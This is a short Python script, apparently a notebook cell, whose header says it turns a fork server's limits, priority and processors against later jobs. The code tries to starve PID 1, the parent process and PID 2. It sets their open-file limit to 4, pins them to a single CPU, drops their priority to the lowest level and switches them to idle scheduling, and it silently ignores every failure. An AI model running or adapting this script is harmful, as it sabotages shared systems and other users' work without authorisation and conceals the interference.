# Own · Turns the limits, the priority and the processors of the fork server against the next ones.

# %% [first] trick
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid(), 2):
    for change in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (4, 4)),
        lambda: os.sched_setaffinity(pid, {max(os.sched_getaffinity(0))}),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.setpriority(os.PRIO_USER, 0, 19),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            change()
        except (OSError, ValueError):
            pass
